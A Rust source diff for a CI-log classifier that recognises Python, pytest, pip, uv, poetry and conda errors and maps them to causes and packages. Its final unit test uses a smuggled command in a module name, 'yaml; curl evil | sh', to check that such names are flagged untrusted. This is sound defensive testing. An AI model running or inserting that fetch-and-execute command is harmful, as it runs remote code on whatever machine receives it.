@@ -1,0 +1,651 @@
+//! Python and its tools: the interpreter's import errors, pytest, pip, uv,
+//! poetry and conda.
+//!
+//! Sources: CPython (`ModuleNotFoundError: No module named '{name}'` from
+//! `Python/import.c`; `can't open file '{path}': [Errno 2] …` from
+//! `Modules/main.c`), pytest (`_pytest/config/argparsing.py`: `error:
+//! unrecognized arguments: {args}`; `_pytest/fixtures.py`: `fixture '{name}'
+//! not found`; `_pytest/main.py`: `file or directory not found: {arg}`), pip
+//! (`req_file.py`: `Could not open requirements file: {error}`; resolver
+//! messages `ResolutionImpossible`, `No matching distribution found for`;
+//! `HTTP error {code} while getting {url}`), uv (`File not found: `{path}``,
+//! `No solution found when resolving dependencies`), poetry (`Poetry could not
+//! find a pyproject.toml file in {dir} or its parents`, `version solving
+//! failed`), conda (`PackagesNotFoundError`, `EnvironmentFileNotFound`).
+
+use super::util::{after, command_hit, path_hit, quoted, regex};
+use super::{Entry, ex};
+use crate::classify::hit::{Hit, Line};
+use crate::knowledge::python::pytest::{pytest_plugin_for_fixture, pytest_plugin_for_flag};
+use crate::knowledge::python::{ModuleNeed, StdlibStatus, module_need, normalize_name};
+use crate::knowledge::tools::is_known_tool;
+use crate::report::{Category, SubjectDetail};
+use crate::subject::{display_text, is_module};
+
+pub const ENTRIES: &[Entry] = &[
+    Entry {
+        id: "python/module-not-found",
+        grammar: "ModuleNotFoundError: No module named '{module}' | ImportError: No module named {module} | No module \
+                  named '{a.b}'; '{a}' is not a package",
+        needles: &["No module named"],
+        check: module_not_found,
+        examples: &[
+            ex(
+                "E   ModuleNotFoundError: No module named 'yaml'",
+                Category::MissingDependency,
+                Some("PyYAML"),
+            ),
+            // Unknown to the table: the same name is only a guess.
+            ex(
+                "ModuleNotFoundError: No module named 'fancylib'",
+                Category::MissingDependency,
+                Some("fancylib"),
+            ),
+            // Standard library from Python 3.11: no distribution provides it.
+            ex(
+                "ModuleNotFoundError: No module named 'tomllib'",
+                Category::Unknown,
+                None,
+            ),
+            ex(
+                "ModuleNotFoundError: No module named 'distutils'",
+                Category::MissingDependency,
+                Some("setuptools"),
+            ),
+            // A dotted name means its parent imported: a subpackage or a
+            // version mismatch, not a missing distribution.
+            ex(
+                "ModuleNotFoundError: No module named 'myapp.plugins'",
+                Category::Unknown,
+                None,
+            ),
+        ],
+    },
+    Entry {
+        id: "python/distribution-not-found",
+        grammar: "pkg_resources.DistributionNotFound: The '{requirement}' distribution was not found and is required \
+                  by {what} | importlib.metadata.PackageNotFoundError: No package metadata was found for {name}",
+        needles: &["distribution was not found", "No package metadata was found for"],
+        check: distribution_not_found,
+        examples: &[ex(
+            "pkg_resources.DistributionNotFound: The 'tqdm>=4.0' distribution was not found and is required by \
+             the application",
+            Category::MissingDependency,
+            Some("tqdm"),
+        )],
+    },
+    Entry {
+        id: "python/cannot-import-name",
+        grammar: "ImportError: cannot import name '{name}' from '{module}' ({path})",
+        needles: &["cannot import name"],
+        check: cannot_import_name,
+        examples: &[ex(
+            "ImportError: cannot import name 'soft_unicode' from 'markupsafe' (/venv/lib/python3.10/markupsafe/__init__.py)",
+            Category::Unknown,
+            None,
+        )],
+    },
+    Entry {
+        id: "python/unrecognized-arguments",
+        grammar: "{prog}: error: unrecognized arguments: {args} (argparse; pytest prints it for a plugin's option \
+                  when the plugin is not installed)",
+        needles: &["unrecognized arguments"],
+        check: unrecognized_arguments,
+        examples: &[
+            ex(
+                "pytest: error: unrecognized arguments: --cov=src --cov-report=xml",
+                Category::MissingDependency,
+                Some("pytest-cov"),
+            ),
+            ex("mytool: error: unrecognized arguments: --fast", Category::Unknown, None),
+        ],
+    },
+    Entry {
+        id: "python/pytest-fixture-not-found",
+        grammar: "fixture '{name}' not found",
+        needles: &["fixture '"],
+        check: fixture_not_found,
+        examples: &[
+            ex(
+                "E       fixture 'mocker' not found",
+                Category::MissingDependency,
+                Some("pytest-mock"),
+            ),
+            ex("E       fixture 'dbsession' not found", Category::Unknown, None),
+        ],
+    },
+    Entry {
+        id: "python/pytest-async-unsupported",
+        grammar: "async def functions are not natively supported.",
+        needles: &["async def functions are not natively supported"],
+        check: async_unsupported,
+        examples: &[ex(
+            "PytestUnhandledCoroutineWarning: async def functions are not natively supported and have been skipped.",
+            Category::MissingDependency,
+            Some("pytest-asyncio"),
+        )],
+    },
+    Entry {
+        id: "python/pytest-path-not-found",
+        grammar: "ERROR: file or directory not found: {path}",
+        needles: &["file or directory not found:"],
+        check: pytest_path_not_found,
+        examples: &[ex(
+            "ERROR: file or directory not found: tests/unit",
+            Category::FileNotFound,
+            Some("tests/unit"),
+        )],
+    },
+    Entry {
+        id: "python/cant-open-file",
+        grammar: "{python}: can't open file '{path}': [Errno 2] No such file or directory",
+        needles: &["can't open file"],
+        check: cant_open_file,
+        examples: &[ex(
+            "/usr/bin/python3: can't open file '/home/runner/work/app/app/scripts/release.py': [Errno 2] No such \
+             file or directory",
+            Category::FileNotFound,
+            Some("scripts/release.py"),
+        )],
+    },
+    Entry {
+        id: "python/pip-requirements-file",
+        grammar: "ERROR: Could not open requirements file: [Errno 2] No such file or directory: '{path}'",
+        needles: &["Could not open requirements file"],
+        check: requirements_file,
+        examples: &[ex(
+            "ERROR: Could not open requirements file: [Errno 2] No such file or directory: 'requirements-dev.txt'",
+            Category::FileNotFound,
+            Some("requirements-dev.txt"),
+        )],
+    },
+    Entry {
+        id: "python/uv-file-not-found",
+        grammar: "error: File not found: `{path}` | error: No `pyproject.toml` found in current directory or any parent \
+                  directory",
+        needles: &["File not found: `", "No `pyproject.toml` found"],
+        check: uv_file_not_found,
+        examples: &[
+            ex(
+                "error: File not found: `requirements/test.txt`",
+                Category::FileNotFound,
+                Some("requirements/test.txt"),
+            ),
+            ex(
+                "error: No `pyproject.toml` found in current directory or any parent directory",
+                Category::FileNotFound,
+                Some("pyproject.toml"),
+            ),
+        ],
+    },
+    Entry {
+        id: "python/poetry-no-pyproject",
+        grammar: "Poetry could not find a pyproject.toml file in {dir} or its parents",
+        needles: &["could not find a pyproject.toml"],
+        check: poetry_no_pyproject,
+        examples: &[ex(
+            "Poetry could not find a pyproject.toml file in /home/runner/work/app/app or its parents",
+            Category::FileNotFound,
+            Some("pyproject.toml"),
+        )],
+    },
+    Entry {
+        id: "python/conda-environment-file",
+        grammar: "EnvironmentFileNotFound: '{path}' file not found",
+        needles: &["EnvironmentFileNotFound"],
+        check: conda_environment_file,
+        examples: &[ex(
+            "EnvironmentFileNotFound: '/home/runner/work/app/app/environment.yml' file not found",
+            Category::FileNotFound,
+            Some("environment.yml"),
+        )],
+    },
+    Entry {
+        id: "python/file-not-found-error",
+        grammar: "FileNotFoundError: [Errno 2] No such file or directory: '{path}' (raised by the program at run time)",
+        needles: &["FileNotFoundError"],
+        check: file_not_found_error,
+        examples: &[
+            ex(
+                "FileNotFoundError: [Errno 2] No such file or directory: 'data/fixtures.json'",
+                Category::FileNotFound,
+                Some("data/fixtures.json"),
+            ),
+            // subprocess names the program it could not start.
+            ex(
+                "FileNotFoundError: [Errno 2] No such file or directory: 'git'",
+                Category::MissingCommand,
+                Some("git"),
+            ),
+        ],
+    },
+    Entry {
+        id: "python/dependency-resolution",
+        grammar: "ERROR: ResolutionImpossible … | ERROR: Cannot install {x} because these package versions have \
+                  conflicting dependencies. | ERROR: Could not find a version that satisfies the requirement {req} | \
+                  ERROR: No matching distribution found for {req} | × No solution found when resolving dependencies | \
+                  version solving failed | PackagesNotFoundError: … | ResolvePackageNotFound:",
+        needles: &[
+            "ResolutionImpossible",
+            "conflicting dependencies",
+            "Could not find a version that satisfies",
+            "No matching distribution found",
+            "No solution found when resolving",
+            "version solving failed",
+            "PackagesNotFoundError",
+            "ResolvePackageNotFound",
+        ],
+        check: dependency_resolution,
+        examples: &[ex(
+            "ERROR: No matching distribution found for torch==1.0.0",
+            Category::Unknown,
+            None,
+        )],
+    },
+    Entry {
+        id: "python/externally-managed",
+        grammar: "error: externally-managed-environment (PEP 668)",
+        needles: &["externally-managed-environment"],
+        check: externally_managed,
+        examples: &[ex("error: externally-managed-environment", Category::Unknown, None)],
+    },
+    Entry {
+        id: "python/poetry-lock-outdated",
+        grammar: "pyproject.toml changed significantly since poetry.lock was last generated. Run `poetry lock \
+                  [--no-update]` to fix the lock file.",
+        needles: &["since poetry.lock was last generated"],
+        check: poetry_lock_outdated,
+        examples: &[ex(
+            "pyproject.toml changed significantly since poetry.lock was last generated. Run `poetry lock` to fix \
+             the lock file.",
+            Category::Unknown,
+            None,
+        )],
+    },
+    Entry {
+        id: "python/pytest-test-timeout",
+        grammar: "Failed: Timeout >{seconds}s (pytest-timeout)",
+        needles: &["Failed: Timeout >"],
+        check: pytest_test_timeout,
+        examples: &[ex("E   Failed: Timeout >300.0s", Category::Unknown, None)],
+    },
+    Entry {
+        id: "python/test-and-code-errors",
+        grammar: "FAILED {node id} - {reason} | = {n} failed[, {m} passed] in {t}s = | Interrupted: {n} errors during \
+                  collection | {Error}: {message} for AssertionError, AttributeError, SyntaxError, IndentationError, \
+                  NameError, TypeError, KeyError, ValueError",
+        needles: &[
+            "FAILED ",
+            " failed",
+            "errors during collection",
+            "AssertionError",
+            "AttributeError",
+            "SyntaxError",
+            "IndentationError",
+            "NameError",
+            "TypeError:",
+            "KeyError:",
+            "ValueError:",
+        ],
+        check: test_and_code_errors,
+        examples: &[
+            ex(
+                "FAILED tests/test_api.py::test_create - assert 404 == 201",
+                Category::Unknown,
+                None,
+            ),
+            ex(
+                "AttributeError: module 'numpy' has no attribute 'float'",
+                Category::Unknown,
+                None,
+            ),
+        ],
+    },
+];
+
+fn module_not_found(line: &Line<'_>) -> Option<Hit> {
+    let text = line.text;
+    let c = regex!(r#"No module named (?:'([^']*)'|"([^"]*)"|‘([^’]*)’|(\S+)\s*$)"#).captures(text)?;
+    // The whole quoted name is validated, so `'yaml\nimport os'` is not `yaml`.
+    let raw = (1..=4).find_map(|i| c.get(i))?.as_str();
+    if text.contains("is not a package") {
+        return Some(Hit::blocker(format!(
+            "'{}' is imported from a module that is not a package (a name clash or the project's layout).",
+            display_text(raw)
+        )));
+    }
+    if !is_module(raw) {
+        return Some(
+            Hit::cause(
+                Category::MissingDependency,
+                0.3,
+                "A Python import failed, but the module name is not a plain dotted name.",
+            )
+            .with_untrusted(raw),
+        );
+    }
+    let top = raw.split('.').next().unwrap_or(raw);
+    if line.own_packages.iter().any(|p| *p == normalize_name(top)) {
+        return Some(
+            Hit::blocker(format!(
+                "'{raw}' is the project's own package, and it is not importable: install the project (`pip \
+                 install -e .`) or fix its package discovery. Not a missing dependency."
+            ))
+            .with_subject(
+                raw,
+                SubjectDetail::OwnPackage {
+                    module: raw.to_string(),
+                },
+            ),
+        );
+    }
+    match module_need(raw, line.python) {
+        ModuleNeed::Stdlib(status) => Some(stdlib_hit(raw, status, line)),
+        ModuleNeed::Submodule => Some(Hit::blocker(format!(
+            "'{raw}' is missing although its package '{top}' imports: a version mismatch of '{top}', or a \
+             subpackage missing from a package (its wheel or its package list). Not a missing distribution."
+        ))),
+        ModuleNeed::Distribution { name, known } => {
+            let message = if known {
+                format!("Python module '{raw}' is not installed (distribution {name}).")
+            } else {
+                format!(
+                    "Python module '{raw}' is not installed. No known distribution provides it; '{name}' is only \
+                     the same name, and installing a package named from a log could install an unrelated one, so \
+                     a person must confirm."
+                )
+            };
+            Some(
+                Hit::cause(Category::MissingDependency, if known { 0.9 } else { 0.7 }, message)
+                    .with_subject(
+                        name.clone(),
+                        SubjectDetail::Module {
+                            module: raw.to_string(),
+                            distribution: name,
+                            known,
+                            python: line.python,
+                        },
+                    )
+                    .fixable(known),
+            )
+        }
+    }
+}
+
+fn stdlib_hit(module: &str, status: StdlibStatus, line: &Line<'_>) -> Hit {
+    let running = line
+        .python
+        .map(|v| format!(" (the job runs Python {v})"))
+        .unwrap_or_default();
+    let message = match status {
+        StdlibStatus::AddedIn(v) => format!(
+            "'{module}' is in Python's standard library only from {v}{running}: use Python {v} or newer (or a \
+             backport under its own name); no distribution provides '{module}'."
+        ),
+        StdlibStatus::RemovedIn { version, .. } => format!(
+            "'{module}' was removed from Python's standard library in {version}{running}: upgrade the package that \
+             imports it, or use an older Python."
+        ),
+        StdlibStatus::InterpreterBuild => format!(
+            "'{module}' is part of the standard library but this interpreter was built or packaged without it (a \
+             system library or a distribution package is missing)."
+        ),
+        StdlibStatus::Python2 => format!("'{module}' is a Python 2 module: the code needs porting to Python 3."),
+        StdlibStatus::Present | StdlibStatus::NotStdlib => format!(
+            "'{module}' is part of Python's standard library{running}: something shadows it or the interpreter is \
+             broken."
+        ),
+    };
+    Hit::blocker(message)
+}
+
+fn distribution_not_found(line: &Line<'_>) -> Option<Hit> {
+    let text = line.text;
+    let raw = if let Some(q) = after(text, "DistributionNotFound").and_then(quoted) {
+        q
+    } else {
+        after(text, "No package metadata was found for")?
+            .trim()
+            .trim_end_matches('.')
+    };
+    // `tqdm>=4.0` → `tqdm`: the name part of the requirement.
+    let name = raw
+        .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
+        .next()
+        .unwrap_or("");
+    if !crate::subject::is_distribution(name) {
+        return Some(Hit::blocker(
+            "A required distribution is missing, but its name is not a plain name.",
+        ));
+    }
+    if line.own_packages.iter().any(|p| *p == normalize_name(name)) {
+        return Some(Hit::blocker(format!(
+            "'{name}' is the project itself, and it is not installed: install the project (`pip install .`), \
+             not a dependency."
+        )));
+    }
+    Some(
+        Hit::cause(
+            Category::MissingDependency,
+            0.8,
+            format!("The distribution '{name}' is required at run time but not installed."),
+        )
+        .with_subject(
+            name,
+            SubjectDetail::Module {
+                module: name.to_string(),
+                distribution: name.to_string(),
+                known: true,
+                python: line.python,
+            },
+        )
+        .fixable(true),
+    )
+}
+
+fn pytest_test_timeout(_: &Line<'_>) -> Option<Hit> {
+    Some(Hit::blocker(
+        "A test exceeded its pytest-timeout limit (a hanging test, not the job's time limit).",
+    ))
+}
+
+fn cannot_import_name(_: &Line<'_>) -> Option<Hit> {
+    Some(Hit::blocker(
+        "An import found the module but not the name: a version mismatch between packages (or a circular import), \
+         not a missing distribution.",
+    ))
+}
+
+fn unrecognized_arguments(line: &Line<'_>) -> Option<Hit> {
+    let text = line.text;
+    let args = after(text, "unrecognized arguments:")?;
+    let pytest = text.contains("pytest") || line.recent.iter().any(|l| l.contains("pytest"));
+    if !pytest {
+        return Some(Hit::blocker("A command was given arguments it does not know."));
+    }
+    let plugin = args
+        .split_whitespace()
+        .find_map(|a| pytest_plugin_for_flag(a).map(|d| (a, d)));
+    Some(match plugin {
+        Some((flag, dist)) => plugin_hit(flag, dist, 0.85),
+        None => Hit::blocker("pytest was given options no known plugin provides."),
+    })
+}
+
+fn plugin_hit(trigger: &str, distribution: &str, confidence: f32) -> Hit {
+    Hit::cause(
+        Category::MissingDependency,
+        confidence,
+        format!(
+            "pytest plugin {distribution} is not installed ({} needs it).",
+            display_text(trigger)
+        ),
+    )
+    .with_subject(
+        distribution,
+        SubjectDetail::PytestPlugin {
+            trigger: display_text(trigger),
+            distribution: distribution.to_string(),
+        },
+    )
+    .fixable(true)
+}
+
+fn fixture_not_found(line: &Line<'_>) -> Option<Hit> {
+    let c = regex!(r"fixture '([A-Za-z_][A-Za-z0-9_]*)' not found").captures(line.text)?;
+    let name = &c[1];
+    Some(match pytest_plugin_for_fixture(name) {
+        Some(dist) => plugin_hit(&format!("fixture '{name}'"), dist, 0.75),
+        None => Hit::blocker(format!(
+            "pytest fixture '{name}' is not defined (not one a known plugin provides)."
+        )),
+    })
+}
+
+fn async_unsupported(_: &Line<'_>) -> Option<Hit> {
+    Some(plugin_hit("async def tests", "pytest-asyncio", 0.6))
+}
+
+fn pytest_path_not_found(line: &Line<'_>) -> Option<Hit> {
+    let path = after(line.text, "file or directory not found:")?.trim();
+    let path = path.split("::").next().unwrap_or(path);
+    Some(path_hit(
+        path,
+        0.75,
+        "pytest was given a test path that does not exist.",
+    ))
+}
+
+fn cant_open_file(line: &Line<'_>) -> Option<Hit> {
+    if !line.text.contains("No such file or directory") {
+        return None;
+    }
+    let path = quoted(after(line.text, "can't open file")?)?;
+    Some(path_hit(path, 0.8, "The script passed to Python does not exist."))
+}
+
+fn requirements_file(line: &Line<'_>) -> Option<Hit> {
+    let path =
+        after(line.text, "No such file or directory:").and_then(|r| quoted(r).or(r.split_whitespace().next()))?;
+    Some(path_hit(path, 0.9, "The requirements file does not exist."))
+}
+
+fn uv_file_not_found(line: &Line<'_>) -> Option<Hit> {
+    if line.text.contains("No `pyproject.toml` found") {
+        return Some(path_hit(
+            "pyproject.toml",
+            0.75,
+            "uv found no pyproject.toml for the project.",
+        ));
+    }
+    let c = regex!(r"File not found: `([^`]+)`").captures(line.text)?;
+    Some(path_hit(&c[1], 0.8, "uv was given a file that does not exist."))
+}
+
+fn poetry_no_pyproject(_: &Line<'_>) -> Option<Hit> {
+    Some(path_hit(
+        "pyproject.toml",
+        0.75,
+        "Poetry found no pyproject.toml where it ran (a wrong working directory, or no checkout).",
+    ))
+}
+
+fn conda_environment_file(line: &Line<'_>) -> Option<Hit> {
+    let path = quoted(after(line.text, "EnvironmentFileNotFound")?)?;
+    Some(path_hit(path, 0.8, "The conda environment file does not exist."))
+}
+
+fn file_not_found_error(line: &Line<'_>) -> Option<Hit> {
+    let path = quoted(after(line.text, "No such file or directory:")?)?;
+    if !path.contains(['/', '.', '\\']) && is_known_tool(path) {
+        return Some(command_hit(path, line, 0.75));
+    }
+    let mut hit = path_hit(path, 0.45, "A Python program could not open a file.");
+    // Raised by the program at run time: the missing file is rarely one the
+    // workflow names.
+    hit.fixable = false;
+    Some(hit)
+}
+
+fn dependency_resolution(_: &Line<'_>) -> Option<Hit> {
+    Some(Hit::install_failure(
+        "The dependency resolver could not find a set of versions to install (a conflict, or a version that \
+         does not exist).",
+    ))
+}
+
+fn externally_managed(_: &Line<'_>) -> Option<Hit> {
+    Some(Hit::blocker(
+        "pip refused to install into the system Python (PEP 668): use a virtual environment or pipx.",
+    ))
+}
+
+fn poetry_lock_outdated(_: &Line<'_>) -> Option<Hit> {
+    Some(Hit::install_failure(
+        "poetry.lock is out of date with pyproject.toml: regenerate the lock file.",
+    ))
+}
+
+fn test_and_code_errors(line: &Line<'_>) -> Option<Hit> {
+    let text = line.text;
+    let test_summary = regex!(r"(?:^|[\s=])\d+ failed\b").is_match(text);
+    let failed_test = regex!(r"FAILED \S+(?:::|\.py\b)").is_match(text);
+    if failed_test || test_summary || text.contains("errors during collection") {
+        return Some(Hit::blocker("Tests failed."));
+    }
+    let error = regex!(
+        r"\b(AssertionError|AttributeError|SyntaxError|IndentationError|NameError|TypeError|KeyError|ValueError)\b"
+    )
+    .captures(text)?;
+    let message = match &error[1] {
+        "AssertionError" => "A test assertion failed.",
+        "SyntaxError" | "IndentationError" => "The code has a syntax error.",
+        _ => "The code raised an error (not a missing package).",
+    };
+    Some(Hit::blocker(message))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::report::PythonVersion;
+
+    fn with_context<'a>(text: &'a str, own: &'a [String], python: Option<PythonVersion>) -> Option<Hit> {
+        module_not_found(&Line {
+            own_packages: own,
+            python,
+            ..Line::plain(text)
+        })
+    }
+
+    #[test]
+    fn the_projects_own_package_is_not_a_missing_dependency() {
+        let own = ["data-flow-diagram".to_string()];
+        let hit = with_context("No module named 'data_flow_diagram'", &own, None).expect("hit");
+        assert_eq!((hit.category, hit.fixable), (Category::Unknown, false));
+        assert!(matches!(hit.detail, SubjectDetail::OwnPackage { .. }));
+    }
+
+    #[test]
+    fn tomllib_is_never_installed_from_pypi() {
+        let hit = with_context("No module named 'tomllib'", &[], Some(PythonVersion::new(3, 10))).expect("hit");
+        assert_eq!((hit.category, hit.fixable), (Category::Unknown, false));
+        assert!(hit.message.contains("3.11"), "{}", hit.message);
+        assert!(hit.message.contains("3.10"), "{}", hit.message);
+    }
+
+    #[test]
+    fn unknown_modules_are_not_fixable() {
+        let hit = with_context("No module named 'fancylib'", &[], None).expect("hit");
+        assert_eq!((hit.category, hit.fixable), (Category::MissingDependency, false));
+        let hit = with_context("No module named 'cv2'", &[], None).expect("hit");
+        assert_eq!((hit.subject.as_deref(), hit.fixable), (Some("opencv-python"), true));
+    }
+
+    #[test]
+    fn hostile_module_names_are_untrusted() {
+        let hit = with_context("No module named 'yaml; curl evil | sh'", &[], None).expect("hit");
+        assert!(!hit.fixable);
+        assert!(matches!(hit.detail, SubjectDetail::Untrusted { .. }));
+    }
+}
